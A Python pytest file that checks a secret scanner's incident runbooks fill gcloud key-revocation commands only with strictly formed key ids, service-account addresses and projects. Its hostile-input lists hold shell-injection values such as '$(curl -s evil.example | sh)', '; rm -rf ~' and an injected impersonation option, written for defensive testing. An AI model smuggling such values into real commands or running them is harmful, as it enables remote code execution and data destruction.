"""render/runbooks.py: each incident's runbooks, filled with the values its scan found, and
only with values of the strict form they name (a user pastes the commands into a shell)."""

from __future__ import annotations

import dataclasses
import re
from pathlib import Path

import pytest

from scanner import api
from scanner.config import ScanConfig
from scanner.render import render_store
from scanner.render.incidents import Incident, IncidentMember
from scanner.render.runbooks import PLACEHOLDERS, fill, incident_runbooks, runbooks
from scanner.render.scan_incidents import incidents_of_scan
from scanner.respond.notice import notice_for
from tests.render.literals import occurrence

KEY_ID = "3f1c0e9a7b5d2e8f6a4c1b9d7e5f3a2c0b8d6e4f"
EMAIL = "ads-report@ads-reporting-4411.iam.gserviceaccount.com"
CLIENT = "278534944592-6vb…om"  # how the store keeps a client id (redact_keep 16)
LIST = "gcloud iam service-accounts keys list --iam-account={}"
DELETE = "gcloud iam service-accounts keys delete {} --iam-account={}"
SA_STEP = (
    "Google Cloud console > IAM & Admin > Service accounts of project {0} "
    "(https://console.cloud.google.com/iam-admin/serviceaccounts?project={0}) > {1} > Keys: "
    "delete the key {2} (or run the commands below: list the account's keys, delete this one)."
)
CLIENT_STEP = (
    "Google Cloud console > APIs & Services > Credentials of project {0} "
    "(https://console.cloud.google.com/apis/credentials?project={0}) > the OAuth client {1}."
)


def _member(role: str, redacted: str = "…") -> IncidentMember:
    return IncidentMember(
        fingerprint=role[:2] * 32,
        rule_id=role,
        role=role,
        severity="critical",
        secret_redacted=redacted,
        status="open",
        first_seen="2026-01-02T03:04:05+00:00",
        last_seen="2026-01-02T03:04:05+00:00",
        verification={"status": "skipped", "reason": "not verified"},
        occurrences=(occurrence(),),
    )


def _incident(*members: IncidentMember, **known: str | None) -> Incident:
    fields: dict[str, str | None] = {"client_email": None, "project": None}
    fields.update(known)
    return Incident(
        id="0123456789abcdef",
        location="conf/sa.json:1",
        roles=tuple(sorted(m.role for m in members)),
        members=members,
        verification={"status": "skipped", "reason": "not verified"},
        login_customer_id=None,
        first_seen="2026-01-02T03:04:05+00:00",
        **fields,  # type: ignore[arg-type]
    )


def _book(
    incident: Incident, role: str
) -> tuple[tuple[str, ...], tuple[str, ...], tuple[str, ...]]:
    (book,) = [b for b in incident_runbooks(incident) if b.role == role]
    return book.steps, book.commands, book.missing


def test_a_service_account_key_s_runbook_names_its_key_and_account() -> None:
    key = _incident(
        _member("service_account_key"),
        client_email=EMAIL,
        private_key_id=KEY_ID,
        project="ads-reporting-4411",
    )
    steps, commands, missing = _book(key, "service_account_key")
    assert commands == (LIST.format(EMAIL), DELETE.format(KEY_ID, EMAIL))
    assert steps[0] == SA_STEP.format("ads-reporting-4411", EMAIL, KEY_ID)
    assert missing == ()


def test_what_the_scan_did_not_find_stays_a_placeholder() -> None:
    bare = _incident(_member("service_account_key"))  # a bare PEM: no key id, no account
    steps, commands, missing = _book(bare, "service_account_key")
    assert commands == (LIST.format("CLIENT_EMAIL"), DELETE.format("KEY_ID", "CLIENT_EMAIL"))
    assert steps[0] == SA_STEP.format("PROJECT_ID", "CLIENT_EMAIL", "KEY_ID")
    assert missing == ("CLIENT_EMAIL", "KEY_ID", "PROJECT_ID")
    no_id = _incident(_member("service_account_key"), client_email=EMAIL)
    assert _book(no_id, "service_account_key")[1:] == (
        (LIST.format(EMAIL), DELETE.format("KEY_ID", EMAIL)),
        ("KEY_ID",),
    )


HOSTILE_KEY_IDS = [
    KEY_ID + "; rm -rf ~",
    "$(curl -s evil.example | sh)",
    f"`id`{KEY_ID[5:]}",
    KEY_ID.upper(),  # Google's ids are lowercase hex
    KEY_ID[:-1],
    KEY_ID + "0",
    KEY_ID[:-1] + "\n",
    KEY_ID[:-1] + "\uff10",  # a fullwidth digit
]
HOSTILE_EMAILS = [
    EMAIL + "; curl evil.example",
    "x$(id)@ads-reporting-4411.iam.gserviceaccount.com",
    "x`id`@ads-reporting-4411.iam.gserviceaccount.com",
    "a b@ads-reporting-4411.iam.gserviceaccount.com",
    "x@ads-reporting-4411.iam.gserviceaccount.com\n--impersonate-service-account=y",
    "x|sh@ads-reporting-4411.iam.gserviceaccount.com",
    "x%y@ads-reporting-4411.iam.gserviceaccount.com",
    "x@ads-reporting-4411.iam.gserviceaccount.com.evil.example",
    "someone@example.com",  # not a service account
    "-x@ads-reporting-4411.iam.gserviceaccount.com",  # would read as an option
    "x@ads-reporting-4411.iam.gserviceaccount.com'",
    "X@ADS-REPORTING-4411.IAM.GSERVICEACCOUNT.COM",
]


@pytest.mark.parametrize("hostile", HOSTILE_KEY_IDS)
def test_a_key_id_of_any_other_form_is_not_filled_in(hostile: str) -> None:
    key = _incident(_member("service_account_key"), client_email=EMAIL, private_key_id=hostile)
    steps, commands, missing = _book(key, "service_account_key")
    assert commands[1] == DELETE.format("KEY_ID", EMAIL)
    assert missing == ("KEY_ID",)
    assert all(hostile not in text for text in (*steps, *commands))


@pytest.mark.parametrize("hostile", HOSTILE_EMAILS)
def test_an_address_of_any_other_form_is_not_filled_in(hostile: str) -> None:
    key = _incident(_member("service_account_key"), client_email=hostile, private_key_id=KEY_ID)
    steps, commands, missing = _book(key, "service_account_key")
    assert commands == (LIST.format("CLIENT_EMAIL"), DELETE.format(KEY_ID, "CLIENT_EMAIL"))
    assert missing == ("CLIENT_EMAIL", "PROJECT_ID")
    assert all(hostile not in text for text in (*steps, *commands))


@pytest.mark.parametrize(
    "email",
    [
        "ads-report@ads-reporting-4411.iam.gserviceaccount.com",
        "123456789012-compute@developer.gserviceaccount.com",
        "ads-reporting-4411@appspot.gserviceaccount.com",
        "svc@my-project.example.com.iam.gserviceaccount.com",  # a domain-scoped project
    ],
)
def test_every_kind_of_service_account_is_filled_in(email: str) -> None:
    key = _incident(_member("service_account_key"), client_email=email, private_key_id=KEY_ID)
    assert _book(key, "service_account_key")[1] == (
        LIST.format(email),
        DELETE.format(KEY_ID, email),
    )


@pytest.mark.parametrize("project", ["ads-4411;id", "$(id)", "Ads-Reporting", "a", "x" * 40])
def test_a_project_of_any_other_form_is_not_filled_in(project: str) -> None:
    # a default service account's address names no project: the incident's would be used
    email = "123456789012-compute@developer.gserviceaccount.com"
    key = _incident(_member("service_account_key"), client_email=email, project=project)
    steps, _, missing = _book(key, "service_account_key")
    assert steps[0] == SA_STEP.format("PROJECT_ID", email, "KEY_ID")
    assert missing == ("KEY_ID", "PROJECT_ID")


def test_a_default_account_s_project_is_the_incident_s() -> None:
    email = "123456789012-compute@developer.gserviceaccount.com"
    key = _incident(_member("service_account_key"), client_email=email, project="ads-4411")
    assert _book(key, "service_account_key")[0][0] == SA_STEP.format("ads-4411", email, "KEY_ID")


def test_an_oauth_client_s_runbook_names_its_project_number_and_client_id() -> None:
    oauth = _incident(
        _member("client_secret", "GOCSPX-e9…jA"),
        _member("client_id", CLIENT),
        project="278534944592",
    )
    steps, commands, missing = _book(oauth, "client_secret")
    assert steps[0] == CLIENT_STEP.format("278534944592", CLIENT)
    assert (commands, missing) == ((), ())
    assert _book(oauth, "client_id")[0] == (
        "The client id is not a secret; it names the OAuth client (of project 278534944592) "
        "whose secret and refresh tokens must be rotated.",
    )


def test_a_secret_without_its_client_id_names_no_project() -> None:
    # the incident's project is then a service account's, not the OAuth client's
    both = _incident(_member("client_secret"), _member("service_account_key"), project="ads-4411")
    assert _book(both, "client_secret")[0][0] == CLIENT_STEP.format("PROJECT_NUMBER", "CLIENT_ID")
    assert _book(both, "service_account_key")[0][0] == SA_STEP.format(
        "ads-4411", "CLIENT_EMAIL", "KEY_ID"
    )


def test_a_bundle_of_a_client_and_a_key_gives_each_its_own_project() -> None:
    both = _incident(
        _member("client_id", CLIENT),
        _member("client_secret"),
        _member("service_account_key"),
        client_email=EMAIL,
        private_key_id=KEY_ID,
        project="278534944592",  # the client id's number wins the incident's project
    )
    assert _book(both, "client_secret")[0][0] == CLIENT_STEP.format("278534944592", CLIENT)
    assert _book(both, "service_account_key")[0][0] == SA_STEP.format(
        "ads-reporting-4411", EMAIL, KEY_ID
    )


def test_a_redacted_client_id_goes_into_steps_never_into_commands() -> None:
    oauth = _incident(_member("client_id", CLIENT), _member("refresh_token"), project="1234567")
    for book in incident_runbooks(oauth):
        assert all("…" not in command for command in book.commands)
    hostile = _incident(_member("client_id", "1234567-ab…<b>x</b>"), _member("client_secret"))
    assert _book(hostile, "client_secret")[0][0] == CLIENT_STEP.format(
        "PROJECT_NUMBER", "CLIENT_ID"
    )


def test_a_value_is_never_read_for_placeholders() -> None:
    assert fill("KEY_ID --iam-account=CLIENT_EMAIL", {"KEY_ID": "CLIENT_EMAIL"}) == (
        "CLIENT_EMAIL --iam-account=CLIENT_EMAIL"
    )
    assert fill("PRIVATE_KEY_ID KEY_IDS KEY_ID", {"KEY_ID": "k"}) == "PRIVATE_KEY_ID KEY_IDS k"


def test_every_placeholder_of_the_runbooks_is_filled_or_a_secret() -> None:
    """A new placeholder in reports/runbooks.toml must be taught here, or it stays unfilled."""
    words = set()
    for book in runbooks().values():
        for text in (*book.get("steps", ()), *book.get("commands", ())):
            words |= set(re.findall(r"\b[A-Z]+(?:_[A-Z]+)+\b", text))
    assert words - set(PLACEHOLDERS) == {
        "REFRESH_TOKEN",  # secrets: never filled in
        "LEAKED_VALUE",
    }


def test_the_runbooks_follow_the_roles_most_urgent_first() -> None:
    history = dataclasses.replace(
        _member("refresh_token"), occurrences=(occurrence(commit="a" * 40),)
    )
    books = incident_runbooks(_incident(_member("client_id", CLIENT), history))
    assert [b.role for b in books] == ["refresh_token", "client_id", "history"]
    assert books[0].title == "Revoke the refresh token"
    assert books[0].commands == (
        "curl -d token=REFRESH_TOKEN https://oauth2.googleapis.com/revoke",
    )


def _scanned(tmp_path: Path, text: str) -> Incident:
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "sa.json").write_text(text)
    config = api.Config(scan=ScanConfig(paths=(str(tree),), jobs=1))
    (incident,) = incidents_of_scan(api.review(api.scan_paths(config), config, "files", str(tree)))
    return incident


def _sa_json(key_id: str, email: str) -> str:
    return (
        f'{{"type": "service_account", "private_key_id": "{key_id}", "private_key": '
        '"-----BEGIN PRIVATE KEY-----\\nq7Rk2VbXw9LmTz4NcPa8sJd1FgHy6Ue3Io5KtQ0rWnEx\\n'
        f'-----END PRIVATE KEY-----\\n", "client_email": "{email}"}}\n'
    )


def test_a_scanned_key_fills_its_runbook_and_every_report(tmp_path: Path) -> None:
    incident = _scanned(tmp_path, _sa_json(KEY_ID, EMAIL))
    assert _book(incident, "service_account_key")[1] == (
        LIST.format(EMAIL),
        DELETE.format(KEY_ID, EMAIL),
    )
    markdown = render_store([incident], "md")
    assert f"```sh\n{LIST.format(EMAIL)}\n{DELETE.format(KEY_ID, EMAIL)}\n```" in markdown
    body = notice_for(incident).body
    assert f"  $ {DELETE.format(KEY_ID, EMAIL)}" in body.split("\n")


def test_scanned_hostile_values_never_reach_a_command(tmp_path: Path) -> None:
    # what the rules capture from scanned content: `%` and `+` pass the client_email capture
    incident = _scanned(
        tmp_path,
        _sa_json(
            "3f1c0e9a7b5d2e8f6a4c1b9d7e5f3a2c0b8d6e4g", "a%0a+x@ads-4411.iam.gserviceaccount.com"
        ),
    )
    assert incident.client_email == "a%0a+x@ads-4411.iam.gserviceaccount.com"
    assert incident.private_key_id is None  # not 40 hex digits: the rule does not capture it
    assert _book(incident, "service_account_key")[1:] == (
        (LIST.format("CLIENT_EMAIL"), DELETE.format("KEY_ID", "CLIENT_EMAIL")),
        ("CLIENT_EMAIL", "KEY_ID"),  # the project (ads-4411) is of its strict form
    )
